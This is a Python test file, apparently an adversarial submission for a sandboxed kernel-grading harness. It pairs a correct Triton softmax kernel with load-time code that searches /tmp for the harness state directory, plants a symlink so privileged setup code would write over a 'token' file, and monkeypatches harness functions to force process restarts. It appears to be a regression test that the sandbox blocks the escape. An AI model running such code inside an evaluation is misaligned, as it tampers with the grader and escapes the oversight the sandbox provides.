"""Swaps its own work folder for a link, so that the next process of its source writes its source through it.

Trick: the candidate may write anywhere beneath its source's folder (root/<sha16>/). At load it moves its `work/`
away, makes `evil/` with a link `evil/cand_<sha12>.py` -> the state directory's token (found by the sandbox tag),
and makes `work` a link to `evil`; its process then leaves right after its `release` answer, so that the next
profile of the same source starts a fresh one. The trusted code that prepares that process (root, before the
sandbox closes) used to follow the link and write the candidate's source over the token. The kernel is honest.
Expected verdict: correct, twice; afterwards the token and every other seeded file are unchanged.
"""

import os

import torch
import triton
import triton.language as tl

_m = torch.sys.modules
TARGET_NAME = "token"  # inside the state directory, found below by the sandbox tag

PROBLEM = "softmax"
SHAPE = "small"
GPU = False
EXPECT = "correct"
ISOLATION = "service"
NEXT = ["symlink_work_dir.py"]


@triton.jit
def softmax_row_kernel(x_ptr, out_ptr, cols, x_row_stride, out_row_stride, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    offs = tl.arange(0, BLOCK)
    mask = offs < cols
    x = tl.load(x_ptr + row * x_row_stride + offs, mask=mask, other=-float("inf")).to(tl.float32)
    x = x - tl.max(x, axis=0)
    e = tl.exp(x)
    y = e / tl.sum(e, axis=0)
    tl.store(out_ptr + row * out_row_stride + offs, y.to(out_ptr.dtype.element_ty), mask=mask)


def entry(x):
    rows, cols = x.shape
    out = torch.empty_like(x)
    softmax_row_kernel[(rows,)](x, out, cols, x.stride(0), out.stride(0), BLOCK=triton.next_power_of_2(cols))
    return out


def _find_state_dir(tag):
    """The state directory whose pool root hashes to this sandbox's tag (tools.pool.sandbox_dir)."""
    hashlib = _m["hashlib"]
    for base in ("/tmp",):
        for dirpath, dirnames, filenames in os.walk(base):
            if dirpath.count(os.sep) > 6:
                dirnames[:] = []
            if "marathon.db" in filenames:
                root = os.path.join(dirpath, "cache", "workers")
                if hashlib.sha256(root.encode()).hexdigest()[:12] == tag:
                    return dirpath
    return None


def _plant():
    here = os.path.dirname(os.path.abspath(__file__))  # .../<tag>/worker0/<sha16>/work
    folder = os.path.dirname(here)
    if os.path.islink(os.path.join(folder, "work")):
        return "already planted"
    tag = os.path.basename(os.path.dirname(os.path.dirname(folder)))
    state = _find_state_dir(tag)
    if state is None:
        return "no state dir found"
    evil = os.path.join(folder, "evil")
    os.makedirs(evil, exist_ok=True)
    os.symlink(os.path.join(state, TARGET_NAME), os.path.join(evil, os.path.basename(__file__)))
    os.rename(here, os.path.join(folder, "old"))
    os.symlink("evil", os.path.join(folder, "work"))
    return "planted -> " + os.path.join(state, TARGET_NAME)


try:
    print("symlink_work:", _plant(), flush=True)
except Exception as exc:
    print("symlink_work failed:", repr(exc), flush=True)

# The parked process leaves right after its release, so the next profile of this source spawns a fresh one.
_ch = _m["tools.candidate_host"]
_orig_release = _ch.Host.release


def _release(self):
    _flag["leave"] = True
    return _orig_release(self)


_flag = {"leave": False}
_wire = _m["tools.wire"]
_orig_send = _wire.send


def _send(sock, header, fds=None):
    _orig_send(sock, header, fds)
    if _flag["leave"]:
        os._exit(0)


_wire.send = _send
_ch.Host.release = _release
